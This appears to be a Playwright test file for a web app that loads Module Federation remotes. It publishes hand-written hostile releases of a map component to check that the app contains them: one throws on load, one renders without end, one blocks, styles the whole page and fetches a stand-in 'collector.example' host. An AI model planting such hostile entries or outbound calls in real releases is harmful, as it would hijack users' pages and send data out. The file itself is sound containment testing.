// What a hostile release does once it runs in a page. What is refused before is in api/src/releases/two-teams.test.ts.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { integrityOf } from '@baza/shared/build/integrity';
import { expect } from '@playwright/test';
import { test } from '../support/test.ts';
import { localeTexts } from '../support/texts.ts';
import { isSomebodys, openRegistry, type TestRegistry } from './released.ts';
import { firstCard, goInPage, mapOf, watchVersions } from './screens.ts';

test.skip(isSomebodys, 'a registry in use must not be changed');
test.use({ serviceWorkers: 'block', mayComplain: true });

const t = localeTexts('ru');
const LEAK = 'leak.1a2b3c4d.css';
let registry: TestRegistry;
test.beforeEach(async ({ request }) => {
  registry = await openRegistry(request);
});
test.afterEach(() => registry.restore());

/** Makes a release of the map stable whose entry is written by hand, as no build of ours would. */
async function release(version: string, entry: string, css = ''): Promise<void> {
  await registry.release('mf_map', version);
  const file = registry.manifest('mf_map').entry;
  await writeFile(join(registry.folder('mf_map', version), file), entry);
  await writeFile(join(registry.folder('mf_map', version), LEAK), css);
  await registry.change((remote) => {
    const { channels, releases } = remote('mf_map');
    const manifest = releases[version]?.manifest;
    if (!manifest) throw new Error(`${version} is not there`);
    Object.assign(manifest.integrity, { [file]: integrityOf(entry), [LEAK]: integrityOf(css) });
    delete manifest.server;
    channels.stable = version;
  });
}

/** An entry in Module Federation's protocol, with a page of this component. */
const entryWith = (component: string) => `
var mf_map = (() => {
  let scope;
  const shared = async (name) => {
    const [module] = Object.values(scope[name]);
    return (module.lib ?? (await module.get()))();
  };
  return {
    init(given) { scope = given; },
    async get() {
      const names = ['react', 'react-router-dom', '@baza/shared/contract'];
      const [React, { Route }, { defineRemote }] = await Promise.all(names.map(shared));
      function Page() { ${component} }
      const routes = React.createElement(Route, { path: '*', element: React.createElement(Page) });
      return () => defineRemote({ name: 'mf_map', routes });
    },
  };
})();`;

test('a hostile remote is contained, and other screens work', async ({ page }) => {
  const othersWork = async () => {
    await goInPage(page, '/ru/products');
    await expect(firstCard(page)).toBeVisible();
  };

  await test.step('it throws while it is evaluated: the release before takes over', async () => {
    await release('9.7.0-throws', 'throw new Error("hostile");');
    const versions = watchVersions(page);
    await page.goto('/ru/search-on-map');
    await expect(mapOf(page, t)).toBeVisible();
    expect(versions('mf_map')).toEqual(['9.7.0-throws', registry.stable('mf_map')]);
    await othersWork();
  });

  await test.step('it renders without end: it is stopped, and its place says so', async () => {
    const loop = 'const [n, set] = React.useState(0); React.useEffect(() => set(n + 1)); return String(n);';
    await release('9.7.1-loops', entryWith(loop));
    await page.goto('/ru/search-on-map');
    await expect(page.getByRole('alert').filter({ hasText: t.remotes('title.crashed') })).toBeVisible();
    await othersWork();
  });

  await test.step('it blocks, styles the whole page and sends to a foreign origin: nothing is left of it', async () => {
    const outline = () => page.evaluate(() => getComputedStyle(document.body).outlineWidth);
    await release(
      '9.7.2-reaches-out',
      entryWith(`
        const [sent, setSent] = React.useState('asking');
        React.useEffect(() => {
          for (const end = performance.now() + 1500; performance.now() < end; );
          const inline = document.createElement('style');
          inline.textContent = 'body { outline: 9px solid red }';
          const own = document.createElement('link');
          Object.assign(own, { rel: 'stylesheet', href: '/remotes/mf_map/9.7.2-reaches-out/${LEAK}' });
          document.head.append(own, inline);
          fetch('https://collector.example/').then(() => setSent('sent'), () => setSent('not sent'));
        }, []);
        return sent;`),
      'body { outline: 7px solid red }',
    );
    await page.goto('/ru/search-on-map');
    await expect(page.getByText('not sent', { exact: true })).toBeVisible();
    // Its own sheet is a file of the release, which the gate would have refused: it applies, but not for others.
    await expect.poll(outline).toBe('7px');
    await othersWork();
    await expect.poll(outline).not.toBe('7px');
  });
});
